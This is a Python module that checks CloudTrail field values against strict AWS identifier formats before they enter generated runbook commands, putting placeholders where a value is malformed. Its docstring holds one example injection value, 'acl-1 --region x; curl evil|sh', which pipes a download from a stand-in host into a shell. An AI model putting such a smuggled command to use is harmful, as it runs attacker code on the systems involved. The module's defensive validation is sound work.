"""Strict formats of the values that may enter a runbook command.

CloudTrail values are attacker-influenced: a failed call's ``requestParameters`` are kept as the
caller sent them, so ``networkAclId`` can be ``acl-1 --region x; curl evil|sh``. A value enters an
executable line (AWS CLI, boto3) only when it matches the strict AWS format of its kind, declared
per field in the mapping file (``event.formats``); otherwise the line shows a placeholder and
says which value was malformed. Valid values are shell-quoted as well (a no-op for real ids).
"""

from __future__ import annotations

import re

_HEX_ID = r"[0-9a-f]{8}(?:[0-9a-f]{9})?"

#: kind → full-match pattern. Names follow the AWS resource they identify.
VALUE_FORMATS: dict[str, re.Pattern[str]] = {
    name: re.compile(pattern)
    for name, pattern in {
        "network-acl-id": rf"acl-{_HEX_ID}",
        "nat-gateway-id": rf"nat-{_HEX_ID}",
        "internet-gateway-id": rf"igw-{_HEX_ID}",
        "network-interface-id": rf"eni-{_HEX_ID}",
        "vpc-peering-connection-id": rf"pcx-{_HEX_ID}",
        "vpc-id": rf"vpc-{_HEX_ID}",
        "subnet-id": rf"subnet-{_HEX_ID}",
        "vpc-endpoint-id": rf"vpce-{_HEX_ID}",
        "allocation-id": rf"eipalloc-{_HEX_ID}",
        "account-id": r"[0-9]{12}",
        "region": r"[a-z]{2}(?:-[a-z]+)+-[0-9]{1,2}",
        "partition": r"aws(?:-cn|-us-gov|-iso(?:-[a-z])?)?",
        "rule-number": r"(?:[1-9][0-9]{0,3}|[12][0-9]{4}|3[01][0-9]{3}|32[0-6][0-9]{2}|327[0-5][0-9]|3276[0-6])",
        "cli-direction": r"--(?:egress|ingress)",
        "access-key-id": r"(?:AKIA|ASIA)[A-Z0-9]{16}",
        "iam-name": r"[\w+=,.@-]{1,64}",
        "iam-principal-arn": r"arn:aws(?:-cn|-us-gov)?:(?:iam|sts)::[0-9]{12}:(?:root|(?:user|role|assumed-role)/[\w+=,.@/-]{1,512})",
        "event-name": r"[A-Z][A-Za-z0-9]{1,127}",
        "event-id": r"[0-9a-fA-F-]{36}",
        "timestamp": r"[0-9]{4}-[0-9]{2}-[0-9]{2}T[0-9]{2}:[0-9]{2}:[0-9]{2}Z",
    }.items()
}

#: Formats of the values every mapping gets (see engine.extract).
COMMON_FORMATS: dict[str, str] = {
    "region": "region",
    "account": "account-id",
    "partition": "partition",
    "eventID": "event-id",
    "eventTime": "timestamp",
    "eventName": "event-name",
    "principalArn": "iam-principal-arn",
    "roleArn": "iam-principal-arn",
    "accessKeyId": "access-key-id",
    "userName": "iam-name",
}


def matches(kind: str, value: str) -> bool:
    """True when ``value`` is a well-formed ``kind`` (an unknown kind never matches)."""
    pattern = VALUE_FORMATS.get(kind)
    return pattern is not None and pattern.fullmatch(value) is not None


def placeholder(name: str) -> str:
    """``networkAclId`` → ``NETWORK_ACL_ID``: inert in a shell and in a Python string literal."""
    return re.sub(r"(?<=[a-z0-9])(?=[A-Z])", "_", name).upper()
